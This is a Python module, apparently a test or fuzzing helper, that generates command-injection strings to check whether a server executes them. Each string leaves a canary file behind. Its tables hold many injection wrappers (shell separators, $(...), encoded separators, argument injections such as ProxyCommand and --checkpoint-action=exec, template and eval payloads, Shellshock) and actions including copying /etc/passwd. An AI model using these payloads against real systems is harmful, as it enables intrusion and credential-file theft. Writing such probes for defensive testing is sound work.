"""Texts that make a careless server start a program: shells, options, templates, encodings, in many dresses."""

from __future__ import annotations

import itertools
import random
from collections.abc import Iterator

ACTS = (
    "touch {canary}", "id>{canary}", "cp /etc/passwd {canary}", "/bin/sh -c 'touch {canary}'", "tee {canary}",
    "python3 -c \"open('{canary}','w')\"", "perl -e 'open F,q(>{canary})'", "busybox touch {canary}",
    "env touch {canary}", "dd if=/dev/null of={canary}", "ln -s / {canary}", "sleep 9; touch {canary}",
    "awk 'BEGIN{{system(\"touch {canary}\")}}'", "find / -maxdepth 0 -exec touch {canary} ;",
)  # fmt: skip

DRESSES = (
    "{0}", ";{0}", "; {0} #", "&& {0}", "& {0} &", "|| {0}", "| {0}", "|& {0}", "\n{0}\n", "\r\n{0}\r\n", "`{0}`",
    "$({0})", "$(({0}))", "${{x:-$({0})}}", "<({0})", ">({0})", "'; {0}; '", "\"; {0}; \"", "'\"`$({0})`\"'",
    "\\'; {0}; \\'", "a'$({0})'b", "$'\\n{0}'", "{{{0},x}}", "!{0}", "!!;{0}", "%0a{0}", "%3B{0}", "%26%26{0}",
    "\\x3b{0}", "\\u003b{0}", "\x00;{0}", "\x1b;{0}\x07", "；{0}", "｜{0}", "＆＆{0}", "`{0}`", "\u2028{0}",
    "--exec={0}", "--output={0}", "-o ProxyCommand={0}", "--upload-pack={0}", "-exec {0} ;",
    "--checkpoint-action=exec={0}",
    "-I{0}", "--use-compress-program={0}", "--pager={0}", "-c core.sshCommand={0}", "ext::sh -c {0}", "@{0}",
    "=cmd|'{0}'",
    "{{{{{0}}}}}", "${{{0}}}", "#{{{0}}}", "<%= `{0}` %>", "{{% {0} %}}", "__import__('os').system('{0}')",
    "../../../../bin/sh -c {0}", "/bin/sh -c {0}", "file:///bin/sh -c {0}", "x\";{0};#", "x' || {0} || 'x",
    "() {{ :; }}; {0}", "LD_PRELOAD=/tmp/x.so {0}", "PATH=/tmp IFS=, {0}", "a;{0}|tee x&&y", "~/../{0}", "*;{0}",
    "cmd /c {0}", "powershell -c {0}", "& {0} ^", "%COMSPEC% /c {0}", "-- {0}", "--", "-", "-rf /", "${{IFS}}{0}",
)  # fmt: skip

AROUND = ("{0}", "a.txt{0}", "{0}a.txt", " {0} ", "x=1 {0}")


def strings(count: int, canary: str, *, seed: int = 7) -> Iterator[str]:
    """As many different ones. Each that is obeyed leaves a file `canary` with something behind its name."""
    made = (
        around.format(dress.format(act.format(canary=f"{canary}/{number}")))
        for number, (act, dress, around) in enumerate(itertools.product(ACTS, DRESSES, AROUND))
    )
    every = list(dict.fromkeys(made))
    random.Random(seed).shuffle(every)
    assert len(every) >= count, f"there are {len(every)}"
    yield from every[:count]
